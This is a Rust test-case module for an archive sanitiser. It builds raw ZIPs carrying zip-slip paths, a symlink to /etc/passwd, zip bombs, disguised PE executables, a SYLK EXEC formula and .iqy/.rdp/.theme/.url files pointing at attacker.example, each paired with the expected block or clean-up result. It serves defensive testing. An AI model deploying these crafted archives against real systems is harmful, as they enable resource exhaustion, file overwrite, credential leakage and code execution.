//! Cases for the archive rebuilder, and a raw ZIP builder that can write
//! what ordinary writers refuse to: lying headers, overlapping entries,
//! symlinks, CP932 names, ZipCrypto and AES entries.

use crate::{Case, Expect};
use mugai_core::Code;
use std::io::Write;

/// CRC-32 (IEEE) as ZIP uses it.
pub fn crc32(bytes: &[u8]) -> u32 {
    let mut c = flate2::Crc::new();
    c.update(bytes);
    c.sum()
}

/// Raw Deflate of `data`.
pub fn deflate(data: &[u8]) -> Vec<u8> {
    let mut e = flate2::write::DeflateEncoder::new(Vec::new(), flate2::Compression::best());
    e.write_all(data).expect("deflate");
    e.finish().expect("deflate")
}

/// A Deflate entry of `mib` MiB of zeros, built by repeating one
/// self-contained block, so that gigabyte bombs cost milliseconds to make.
pub fn zeros_entry(name: &str, mib: u32) -> RawEntry {
    let chunk = vec![0u8; 1 << 20];
    let mut c = flate2::Compress::new(flate2::Compression::best(), false);
    let mut block = Vec::with_capacity(4096);
    c.compress_vec(&chunk, &mut block, flate2::FlushCompress::Full)
        .expect("deflate block");
    let mut last = Vec::with_capacity(64);
    c.compress_vec(&[], &mut last, flate2::FlushCompress::Finish)
        .expect("deflate end");
    let mut data = Vec::with_capacity(block.len() * mib as usize + last.len());
    let mut crc = flate2::Crc::new();
    for _ in 0..mib {
        data.extend_from_slice(&block);
        crc.update(&chunk);
    }
    data.extend_from_slice(&last);
    RawEntry {
        method: 8,
        data,
        crc32: crc.sum(),
        uncompressed_size: (u64::from(mib) << 20).min(u64::from(u32::MAX)) as u32,
        ..RawEntry::stored(name, b"")
    }
}

/// One entry of a raw ZIP, with every header field under control.
#[derive(Debug, Clone)]
pub struct RawEntry {
    pub name: Vec<u8>,
    /// Name written in the local header when it should differ.
    pub local_name: Option<Vec<u8>>,
    pub flags: u16,
    pub method: u16,
    /// The bytes as stored (compressed and/or encrypted).
    pub data: Vec<u8>,
    pub crc32: u32,
    pub uncompressed_size: u32,
    pub made_by: u16,
    pub external_attrs: u32,
    pub extra: Vec<u8>,
    /// Write a data descriptor (with signature) after the data, and zeros
    /// in the local header.
    pub descriptor: bool,
    /// No local header: the central record points at this offset instead.
    pub central_only_at: Option<u32>,
    /// Compressed size written in the central record, when not `data.len()`.
    pub central_compressed: Option<u32>,
    /// Bytes written before the local header, referred to by nothing.
    pub junk_before: Vec<u8>,
    /// DOS (time, date) written in the local header when it should differ
    /// from the central record's.
    pub local_time: Option<(u16, u16)>,
}

impl RawEntry {
    pub fn stored(name: &str, data: &[u8]) -> Self {
        RawEntry {
            name: name.as_bytes().to_vec(),
            local_name: None,
            flags: if name.is_ascii() { 0 } else { 1 << 11 },
            method: 0,
            data: data.to_vec(),
            crc32: crc32(data),
            uncompressed_size: data.len() as u32,
            made_by: 20,
            external_attrs: 0,
            extra: Vec::new(),
            descriptor: false,
            central_only_at: None,
            central_compressed: None,
            junk_before: Vec::new(),
            local_time: None,
        }
    }

    pub fn deflated(name: &str, data: &[u8]) -> Self {
        RawEntry {
            method: 8,
            data: deflate(data),
            ..RawEntry::stored(name, data)
        }
    }

    /// A name given as raw bytes, without the UTF-8 flag.
    pub fn raw_name(mut self, raw: &[u8]) -> Self {
        self.name = raw.to_vec();
        self.flags &= !(1 << 11);
        self
    }

    /// A Unix symbolic link to `target`.
    pub fn symlink(name: &str, target: &str) -> Self {
        RawEntry {
            made_by: 0x031E,
            external_attrs: 0o120_777 << 16,
            ..RawEntry::stored(name, target.as_bytes())
        }
    }
}

/// A ZIP of raw entries with an archive comment.
pub fn raw_zip(entries: &[RawEntry], comment: &[u8]) -> Vec<u8> {
    let mut out = Vec::new();
    let mut central = Vec::new();
    let p16 = |v: &mut Vec<u8>, x: u16| v.extend_from_slice(&x.to_le_bytes());
    let p32 = |v: &mut Vec<u8>, x: u32| v.extend_from_slice(&x.to_le_bytes());
    for e in entries {
        let offset = match e.central_only_at {
            Some(at) => at,
            None => {
                out.extend_from_slice(&e.junk_before);
                let offset = out.len() as u32;
                let local_name = e.local_name.as_ref().unwrap_or(&e.name);
                let flags = e.flags | if e.descriptor { 1 << 3 } else { 0 };
                p32(&mut out, 0x0403_4b50);
                p16(&mut out, 20);
                p16(&mut out, flags);
                p16(&mut out, e.method);
                let (time, date) = e.local_time.unwrap_or((0, 0x21));
                p16(&mut out, time);
                p16(&mut out, date);
                let (crc, c, u) = if e.descriptor {
                    (0, 0, 0)
                } else {
                    (e.crc32, e.data.len() as u32, e.uncompressed_size)
                };
                p32(&mut out, crc);
                p32(&mut out, c);
                p32(&mut out, u);
                p16(&mut out, local_name.len() as u16);
                p16(&mut out, e.extra.len() as u16);
                out.extend_from_slice(local_name);
                out.extend_from_slice(&e.extra);
                out.extend_from_slice(&e.data);
                if e.descriptor {
                    p32(&mut out, 0x0807_4b50);
                    p32(&mut out, e.crc32);
                    p32(&mut out, e.data.len() as u32);
                    p32(&mut out, e.uncompressed_size);
                }
                offset
            }
        };
        let flags = e.flags | if e.descriptor { 1 << 3 } else { 0 };
        p32(&mut central, 0x0201_4b50);
        p16(&mut central, e.made_by);
        p16(&mut central, 20);
        p16(&mut central, flags);
        p16(&mut central, e.method);
        p16(&mut central, 0);
        p16(&mut central, 0x21);
        p32(&mut central, e.crc32);
        p32(
            &mut central,
            e.central_compressed.unwrap_or(e.data.len() as u32),
        );
        p32(&mut central, e.uncompressed_size);
        p16(&mut central, e.name.len() as u16);
        p16(&mut central, e.extra.len() as u16);
        p16(&mut central, 0);
        p16(&mut central, 0);
        p16(&mut central, 0);
        p32(&mut central, e.external_attrs);
        p32(&mut central, offset);
        central.extend_from_slice(&e.name);
        central.extend_from_slice(&e.extra);
    }
    let cd_offset = out.len() as u32;
    out.extend_from_slice(&central);
    p32(&mut out, 0x0605_4b50);
    p16(&mut out, 0);
    p16(&mut out, 0);
    p16(&mut out, entries.len() as u16);
    p16(&mut out, entries.len() as u16);
    p32(&mut out, central.len() as u32);
    p32(&mut out, cd_offset);
    p16(&mut out, comment.len() as u16);
    out.extend_from_slice(comment);
    out
}

/// Traditional PKWARE encryption ("ZipCrypto") of `plain` (already
/// compressed), with the 12-byte header whose last byte checks the CRC.
pub fn zipcrypto(plain: &[u8], crc: u32, password: &[u8]) -> Vec<u8> {
    fn crc_byte(c: u32, b: u8) -> u32 {
        let mut x = (c ^ u32::from(b)) & 0xFF;
        for _ in 0..8 {
            x = if x & 1 != 0 {
                (x >> 1) ^ 0xEDB8_8320
            } else {
                x >> 1
            };
        }
        x ^ (c >> 8)
    }
    struct Keys(u32, u32, u32);
    impl Keys {
        fn update(&mut self, b: u8) {
            self.0 = crc_byte(self.0, b);
            self.1 = self
                .1
                .wrapping_add(self.0 & 0xFF)
                .wrapping_mul(134_775_813)
                .wrapping_add(1);
            self.2 = crc_byte(self.2, (self.1 >> 24) as u8);
        }
        fn stream(&self) -> u8 {
            let t = (self.2 | 2) & 0xFFFF;
            ((t.wrapping_mul(t ^ 1)) >> 8) as u8
        }
        fn encrypt(&mut self, p: u8) -> u8 {
            let c = p ^ self.stream();
            self.update(p);
            c
        }
    }
    let mut k = Keys(0x1234_5678, 0x2345_6789, 0x3456_7890);
    for &b in password {
        k.update(b);
    }
    let mut header = [0x5Au8; 12];
    header[11] = (crc >> 24) as u8;
    header.iter().chain(plain).map(|&b| k.encrypt(b)).collect()
}

/// A stored ZIP holding `inner` as `name` (for nesting).
fn wrap(name: &str, inner: &[u8]) -> Vec<u8> {
    raw_zip(&[RawEntry::stored(name, inner)], b"")
}

/// `levels` ZIPs nested in each other around one text file.
pub fn nested(levels: usize) -> Vec<u8> {
    let mut z = raw_zip(
        &[RawEntry::deflated("leaf.txt", b"the innermost file\n")],
        b"",
    );
    for i in 1..levels {
        z = wrap(&format!("level{i}.zip"), &z);
    }
    z
}

/// A 42.zip-style fan-out: every level holds `fan` copies of the level
/// below; a few KiB expand to `fan^levels` files.
pub fn fanout(fan: usize, levels: usize, leaf: &[u8]) -> Vec<u8> {
    let mut z = raw_zip(
        &(0..fan)
            .map(|i| RawEntry::deflated(&format!("{i}.txt"), leaf))
            .collect::<Vec<_>>(),
        b"",
    );
    for _ in 1..levels {
        z = raw_zip(
            &(0..fan)
                .map(|i| RawEntry::deflated(&format!("{i}.zip"), &z))
                .collect::<Vec<_>>(),
            b"",
        );
    }
    z
}

/// A Fifield-style overlapping bomb: one local header and Deflate stream,
/// `n` central records all pointing at it.
pub fn overlap_bomb(n: usize, member_size: usize) -> Vec<u8> {
    overlap_bomb_of(RawEntry::deflated("0.txt", &vec![b'a'; member_size]), n)
}

/// [`overlap_bomb`] around any shared entry.
pub fn overlap_bomb_of(shared: RawEntry, n: usize) -> Vec<u8> {
    let pointer = RawEntry {
        central_only_at: Some(0),
        central_compressed: Some(shared.data.len() as u32),
        data: Vec::new(),
        ..shared.clone()
    };
    let mut entries = vec![shared];
    for i in 1..n {
        entries.push(RawEntry {
            name: format!("{i}.txt").into_bytes(),
            ..pointer.clone()
        });
    }
    raw_zip(&entries, b"")
}

/// A ZipCrypto-encrypted ZIP (password `infected`).
pub fn zipcrypto_zip() -> Vec<u8> {
    let text = b"secret minutes\n";
    let plain = deflate(text);
    let crc = crc32(text);
    let e = RawEntry {
        flags: 1,
        data: zipcrypto(&plain, crc, b"infected"),
        ..RawEntry::deflated("minutes.txt", text)
    };
    raw_zip(&[e], b"")
}

/// The executable-file bytes used in cases: a minimal PE header.
pub fn pe_bytes() -> Vec<u8> {
    let mut pe = b"MZ".to_vec();
    pe.resize(0x80, 0);
    pe[0x3C] = 0x40;
    pe.splice(0x40..0x44, *b"PE\0\0");
    pe
}

/// `s` as UTF-16LE with a byte-order mark, as Windows writes .rdp files.
fn utf16le_bom(s: &str) -> Vec<u8> {
    let mut v = vec![0xFF, 0xFE];
    s.encode_utf16()
        .for_each(|u| v.extend_from_slice(&u.to_le_bytes()));
    v
}

fn cp932(s: &str) -> Vec<u8> {
    encoding_rs::SHIFT_JIS.encode(s).0.into_owned()
}

/// The Info-ZIP Unicode Path extra field for `raw`.
pub fn unicode_path_extra(raw: &[u8], name: &str) -> Vec<u8> {
    let mut data = vec![1u8];
    data.extend(crc32(raw).to_le_bytes());
    data.extend(name.as_bytes());
    let mut x = vec![0x75, 0x70];
    x.extend((data.len() as u16).to_le_bytes());
    x.extend(data);
    x
}

/// The CP932 names used by the `cp932_names.zip` case, as UTF-8.
pub const CP932_NAMES: [&str; 2] = ["資料/令和6年度 報告書.txt", "議事録（第3回）.csv"];

pub fn cases() -> Vec<Case> {
    use Code::*;
    let text = b"hello from the archive\n".as_slice();
    let mut v = vec![
        Case::new(
            "archive/plain.zip",
            crate::build::zip(&[("readme.txt", text), ("docs/memo.txt", b"memo\n")]),
            Expect::clean("two text members rebuilt into a new ZIP"),
        ),
        Case::new(
            "archive/empty.zip",
            raw_zip(&[], b""),
            Expect::clean("an empty archive"),
        ),
        Case::new(
            "archive/directories.zip",
            raw_zip(
                &[
                    RawEntry::stored("dir/", b""),
                    RawEntry::stored("dir/sub/", b""),
                    RawEntry::deflated("dir/sub/a.txt", text),
                    RawEntry::stored("empty/", b""),
                ],
                b"",
            ),
            Expect::clean("directory entries are implied by the files"),
        ),
        Case::new(
            "archive/data_descriptor.zip",
            raw_zip(
                &[RawEntry {
                    descriptor: true,
                    ..RawEntry::deflated("streamed.txt", text)
                }],
                b"",
            ),
            Expect::clean("sizes in a data descriptor after the data"),
        ),
        Case::new(
            "archive/comment.zip",
            raw_zip(&[RawEntry::deflated("a.txt", text)], b"archive comment"),
            Expect::clean("the archive comment is not copied"),
        ),
        Case::new(
            "archive/zip_slip.zip",
            raw_zip(
                &[
                    RawEntry::deflated("../../../../tmp/evil.txt", text),
                    RawEntry::deflated("ok.txt", text),
                ],
                b"",
            ),
            Expect::sanitized(&[ArchivePathTraversal], "zip slip: ../ in a name"),
        ),
        Case::new(
            "archive/absolute.zip",
            raw_zip(&[RawEntry::deflated("/etc/cron.d/evil.txt", text)], b""),
            Expect::sanitized(&[ArchivePathTraversal], "absolute path"),
        ),
        Case::new(
            "archive/drive_backslash.zip",
            raw_zip(
                &[RawEntry::deflated("C:\\Users\\Public\\evil.txt", text)],
                b"",
            ),
            Expect::sanitized(&[ArchivePathTraversal], "drive letter and backslashes"),
        ),
        Case::new(
            "archive/symlink.zip",
            raw_zip(
                &[
                    RawEntry::symlink("passwd.txt", "/etc/passwd"),
                    RawEntry::deflated("a.txt", text),
                ],
                b"",
            ),
            Expect::sanitized(&[ArchiveSymlink], "a symbolic link entry is removed"),
        ),
        Case::new(
            "archive/fifo.zip",
            raw_zip(
                &[
                    RawEntry {
                        made_by: 0x031E,
                        external_attrs: 0o010_644 << 16,
                        ..RawEntry::stored("pipe", b"")
                    },
                    RawEntry::deflated("a.txt", text),
                ],
                b"",
            ),
            Expect::sanitized(&[ArchiveSymlink], "a FIFO entry is removed"),
        ),
        Case::new(
            "archive/nested.zip",
            raw_zip(
                &[RawEntry::deflated(
                    "inner.zip",
                    &raw_zip(&[RawEntry::deflated("../a.txt", text)], b""),
                )],
                b"",
            ),
            Expect::sanitized(
                &[ArchiveNested, ArchivePathTraversal],
                "a ZIP in a ZIP is sanitised recursively (its ../ name neutralised)",
            ),
        ),
        Case::new(
            "archive/nested_clean.zip",
            raw_zip(
                &[RawEntry::deflated(
                    "inner.zip",
                    &raw_zip(&[RawEntry::deflated("a.txt", text)], b""),
                )],
                b"",
            ),
            Expect::clean("a clean ZIP in a ZIP: rebuilt recursively, nothing to report"),
        ),
        Case::new(
            "archive/nested_too_deep.zip",
            nested(8),
            Expect::blocked(LimitDepth, &[], "8 levels of ZIP, past max_depth 5"),
        ),
        Case::new(
            "archive/recursive_deep.zip",
            nested(100),
            Expect::blocked(LimitDepth, &[], "recursive bomb: 100 nested levels"),
        ),
        Case::new(
            "archive/recursive_fanout.zip",
            fanout(16, 4, &[b'x'; 1024]),
            Expect::blocked(
                ArchiveBomb,
                &[],
                "42.zip-style fan-out: 16^4 files, past max_entries",
            ),
        ),
        Case::new(
            "archive/overlap_bomb.zip",
            overlap_bomb(2000, 1 << 20),
            Expect::blocked(
                ArchiveBomb,
                &[],
                "Fifield-style: 2000 entries share one Deflate stream",
            ),
        ),
        Case::new(
            "archive/ratio_bomb.zip",
            raw_zip(&[zeros_entry("zeros.txt", 64)], b""),
            Expect::blocked(
                ArchiveBomb,
                &[],
                "64 MiB from ~64 KiB: ratio over 200 past the 16 MiB floor",
            ),
        ),
        Case::new(
            "archive/small_high_ratio.zip",
            raw_zip(
                &[RawEntry::deflated(
                    "drawing.txt",
                    &b"0 0 moveto 10 10 lineto stroke\n".repeat(100_000),
                )],
                b"",
            ),
            Expect::clean(
                "a 3 MB member compressed over 200:1 (like a vector picture) is small enough to pass",
            ),
        ),
        Case::new(
            "archive/timestamp_mismatch.zip",
            raw_zip(
                &[RawEntry {
                    local_time: Some((0x6000, 0x5821)),
                    ..RawEntry::deflated("memo.txt", text)
                }],
                b"",
            ),
            Expect::clean("local and central headers differ only in the timestamp"),
        ),
        Case::new(
            "archive/size_lie.zip",
            raw_zip(
                &[RawEntry {
                    uncompressed_size: 100,
                    ..RawEntry::deflated("lie.txt", &vec![b'a'; 4 << 20])
                }],
                b"",
            ),
            Expect::blocked(
                RebuildFailed,
                &[],
                "declares 100 bytes, inflates to 4 MiB: stopped at the declared size",
            ),
        ),
        Case::new(
            "archive/zipcrypto.zip",
            zipcrypto_zip(),
            Expect::blocked(ArchiveEncrypted, &[], "ZipCrypto (PPAP)"),
        ),
        Case::new(
            "archive/aes.zip",
            raw_zip(
                &[RawEntry {
                    flags: 1,
                    method: 99,
                    extra: vec![0x01, 0x99, 7, 0, 2, 0, b'A', b'E', 3, 8, 0],
                    data: (0..64u8).collect(),
                    ..RawEntry::deflated("budget.txt", text)
                }],
                b"",
            ),
            Expect::blocked(ArchiveEncrypted, &[], "WinZip AES"),
        ),
        Case::new(
            "archive/executable.zip",
            raw_zip(
                &[
                    RawEntry::deflated("readme.txt", text),
                    RawEntry::deflated("setup.exe", &pe_bytes()),
                ],
                b"",
            ),
            Expect::blocked(TypeExecutable, &[], "a PE executable member blocks the archive"),
        ),
        Case::new(
            "archive/executable_disguised.zip",
            raw_zip(&[RawEntry::deflated("invoice.dat", &pe_bytes())], b""),
            Expect::blocked(TypeExecutable, &[], "a PE executable under a harmless name"),
        ),
        Case::new(
            "archive/unknown_member.zip",
            raw_zip(
                &[RawEntry::deflated("blob.bin", &[0, 1, 2, 3, 0, 0, 0, 0, 200, 201, 0, 0])],
                b"",
            ),
            Expect::blocked(TypeUnknown, &[], "a member of no allowed type"),
        ),
        Case::new(
            "archive/cp932_names.zip",
            raw_zip(
                &CP932_NAMES
                    .iter()
                    .map(|n| RawEntry::deflated("x", "会議資料\n".as_bytes()).raw_name(&cp932(n)))
                    .collect::<Vec<_>>(),
                b"",
            ),
            Expect::sanitized(
                &[ArchiveNameEncoding],
                "Shift_JIS names without the UTF-8 flag, written as UTF-8",
            ),
        ),
        Case::new(
            "archive/unicode_path_extra.zip",
            raw_zip(
                &[RawEntry {
                    extra: unicode_path_extra(&cp932("報告書.txt"), "報告書.txt"),
                    ..RawEntry::deflated("x", text).raw_name(&cp932("報告書.txt"))
                }],
                b"",
            ),
            Expect::clean("the Info-ZIP Unicode Path field names the entry"),
        ),
        Case::new(
            "archive/utf8_flag.zip",
            raw_zip(&[RawEntry::deflated("報告書.txt", text)], b""),
            Expect::clean("UTF-8 names with the flag"),
        ),
        Case::new(
            "archive/duplicate_names.zip",
            raw_zip(
                &[
                    RawEntry::deflated("a.txt", text),
                    RawEntry::deflated("A.TXT", b"second\n"),
                ],
                b"",
            ),
            Expect::sanitized(&[NameUnsafe], "names equal ignoring case get a number"),
        ),
        Case::new(
            "archive/bidi_name.zip",
            raw_zip(&[RawEntry::deflated("abc\u{202E}fed.txt", text)], b""),
            Expect::sanitized(&[NameBidi], "bidi override in a member name"),
        ),
        Case::new(
            "archive/mac_metadata.zip",
            raw_zip(
                &[
                    RawEntry::deflated("a.txt", text),
                    RawEntry::deflated("__MACOSX/._a.txt", b"\x00\x05\x16\x07\x00\x02\x00\x00"),
                ],
                b"",
            ),
            Expect::sanitized(&[ArchiveMemberDropped], "Mac Finder metadata is dropped"),
        ),
        Case::new(
            "archive/unsupported_method.zip",
            raw_zip(
                &[RawEntry {
                    method: 12,
                    ..RawEntry::stored("a.txt", b"BZh91AY&SY")
                }],
                b"",
            ),
            Expect::blocked(ArchiveUnsupported, &[], "BZIP2 compression method"),
        ),
        Case::new(
            "archive/hidden_trailing.zip",
            {
                let mut z = raw_zip(&[RawEntry::deflated("a.txt", text)], b"");
                z.extend_from_slice(b"<hidden payload after the end record>");
                z
            },
            Expect::sanitized(&[ArchiveHiddenData], "bytes after the end record are dropped"),
        ),
        Case::new(
            "archive/hidden_between.zip",
            raw_zip(
                &[
                    RawEntry::deflated("a.txt", text),
                    RawEntry {
                        junk_before: b"MZ hidden between the entries".to_vec(),
                        ..RawEntry::deflated("b.txt", text)
                    },
                ],
                b"",
            ),
            Expect::sanitized(&[ArchiveHiddenData], "bytes between entries are dropped"),
        ),
        Case::new(
            "archive/member_sylk_exec.zip",
            raw_zip(
                &[RawEntry::deflated(
                    "book.slk",
                    b"ID;P\nC;Y1;X1;K0;EEXEC(\"calc.exe\")\nE\n",
                )],
                b"",
            ),
            Expect::sanitized(
                &[ArchiveMemberType, TextFormula],
                "SYLK with EXEC: the formula removed, written as book.txt, never as .slk",
            ),
        ),
        Case::new(
            "archive/member_iqy.zip",
            raw_zip(
                &[RawEntry::deflated(
                    "query.IQY",
                    b"WEB\r\n1\r\nhttp://attacker.example/q?[\"x\"]\r\n",
                )],
                b"",
            ),
            Expect::sanitized(
                &[ArchiveMemberType],
                "Excel web query (any case of .iqy): written as .txt",
            ),
        ),
        Case::new(
            "archive/member_rdp.zip",
            raw_zip(
                &[RawEntry::deflated(
                    "connect.rdp",
                    &utf16le_bom("full address:s:attacker.example\r\ndrivestoredirect:s:*\r\n"),
                )],
                b"",
            ),
            Expect::sanitized(
                &[ArchiveMemberType],
                "a UTF-16 Remote Desktop file sharing every drive: written as .txt",
            ),
        ),
        Case::new(
            "archive/member_theme_unc.zip",
            raw_zip(
                &[RawEntry::deflated(
                    "nice.theme",
                    b"[Theme]\r\nDisplayName=Nice\r\n[Control Panel\\Desktop]\r\nWallpaper=\\\\attacker.example\\share\\a.bmp\r\n",
                )],
                b"",
            ),
            Expect::sanitized(
                &[ArchiveMemberType],
                "a theme whose wallpaper is on a share: written as .txt",
            ),
        ),
        Case::new(
            "archive/member_appref.zip",
            raw_zip(
                &[RawEntry::deflated(
                    "app.appref-ms",
                    &utf16le_bom("http://attacker.example/app.application#app.application, Culture=neutral, PublicKeyToken=0000000000000000, processorArchitecture=msil"),
                )],
                b"",
            ),
            Expect::sanitized(&[ArchiveMemberType], "a ClickOnce reference: written as .txt"),
        ),
        Case::new(
            "archive/member_unknown_ext.zip",
            raw_zip(
                &[
                    RawEntry::deflated("notes.dat", text),
                    RawEntry::deflated("readme", text),
                ],
                b"",
            ),
            Expect::sanitized(
                &[ArchiveMemberType],
                "text under an unknown extension gets .txt; a name without extension stays",
            ),
        ),
        Case::new(
            "archive/member_shtml_script.zip",
            raw_zip(
                &[RawEntry::deflated(
                    "page.shtml",
                    b"<html><body><script>alert(1)</script></body></html>\n",
                )],
                b"",
            ),
            Expect::blocked(TypeExecutable, &[], "HTML with script under .shtml: blocked"),
        ),
        Case::new(
            "archive/member_url.zip",
            raw_zip(
                &[RawEntry::deflated(
                    "link.url",
                    b"[InternetShortcut]\r\nURL=file://attacker.example/share/x.exe\r\n",
                )],
                b"",
            ),
            Expect::blocked(TypeExecutable, &[], "an Internet shortcut: blocked as at top level"),
        ),
        Case::new(
            "archive/member_mismatch.zip",
            raw_zip(&[RawEntry::deflated("photo.jpg", text)], b""),
            Expect::blocked(
                TypeMismatch,
                &[],
                "a .jpg member that is text: blocked as at top level",
            ),
        ),
        Case::new(
            "archive/local_central_mismatch.zip",
            raw_zip(
                &[RawEntry {
                    local_name: Some(b"local.txt".to_vec()),
                    ..RawEntry::deflated("central.txt", text)
                }],
                b"",
            ),
            Expect::blocked(
                RebuildFailed,
                &[],
                "local header and central directory name different files",
            ),
        ),
        Case::new(
            "archive/outside.zip",
            raw_zip(
                &[
                    RawEntry::deflated("a.txt", text),
                    RawEntry {
                        central_only_at: Some(0x7FFF_0000),
                        ..RawEntry::deflated("b.txt", text)
                    },
                ],
                b"",
            ),
            Expect::blocked(RebuildFailed, &[], "an entry pointing outside the file"),
        ),
    ];

    // Archive types mugai does not open.
    let mut tar = vec![0u8; 1024];
    tar[..5].copy_from_slice(b"a.txt");
    tar[257..262].copy_from_slice(b"ustar");
    let gz = {
        let mut e = flate2::write::GzEncoder::new(Vec::new(), flate2::Compression::default());
        e.write_all(text).expect("gzip");
        e.finish().expect("gzip")
    };
    let mut lzh = b"\x1f\x2a-lh5-".to_vec();
    lzh.resize(64, 0);
    for (path, bytes) in [
        (
            "archive/unsupported.7z",
            b"7z\xBC\xAF\x27\x1C\x00\x04\x00\x00\x00\x00".to_vec(),
        ),
        (
            "archive/unsupported.rar",
            b"Rar!\x1a\x07\x01\x00\x00\x00\x00\x00".to_vec(),
        ),
        ("archive/unsupported.lzh", lzh),
        (
            "archive/unsupported.cab",
            b"MSCF\0\0\0\0\x40\0\0\0\0\0\0\0".to_vec(),
        ),
        ("archive/unsupported.gz", gz),
        (
            "archive/unsupported.bz2",
            b"BZh91AY&SY\x00\x00\x00\x00".to_vec(),
        ),
        (
            "archive/unsupported.xz",
            b"\xFD7zXZ\x00\x00\x04\xE6\xD6\xB4\x46".to_vec(),
        ),
        ("archive/unsupported.tar", tar),
    ] {
        v.push(Case::new(
            path,
            bytes,
            Expect::blocked(ArchiveUnsupported, &[], "archive type not opened"),
        ));
    }
    v
}

#[cfg(test)]
mod tests {
    use super::*;

    /// Decrypts with the published ZipCrypto algorithm's inverse, so the
    /// generator is checked independently of the rebuilder.
    #[test]
    fn zipcrypto_round_trips_through_the_zip_crate() {
        let bytes = zipcrypto_zip();
        let mut z = zip::ZipArchive::new(std::io::Cursor::new(bytes)).expect("zip");
        let mut f = z.by_index_decrypt(0, b"infected").expect("decrypt");
        let mut s = String::new();
        std::io::Read::read_to_string(&mut f, &mut s).expect("read");
        assert_eq!(s, "secret minutes\n");
    }

    #[test]
    fn repeated_zero_blocks_inflate_to_the_declared_size() {
        let e = zeros_entry("z", 3);
        let mut d = flate2::read::DeflateDecoder::new(&e.data[..]);
        let mut out = Vec::new();
        std::io::Read::read_to_end(&mut d, &mut out).expect("inflate");
        assert_eq!(out.len(), 3 << 20);
        assert!(out.iter().all(|&b| b == 0));
        assert_eq!(crc32(&out), e.crc32);
    }

    #[test]
    fn raw_zips_read_back_with_the_zip_crate() {
        let z = raw_zip(
            &[
                RawEntry::deflated("a.txt", b"abc"),
                RawEntry {
                    descriptor: true,
                    ..RawEntry::stored("b.txt", b"def")
                },
            ],
            b"c",
        );
        let mut z = zip::ZipArchive::new(std::io::Cursor::new(z)).expect("zip");
        assert_eq!(z.len(), 2);
        let mut s = String::new();
        std::io::Read::read_to_string(&mut z.by_index(1).expect("b"), &mut s).expect("read");
        assert_eq!(s, "def");
    }
}
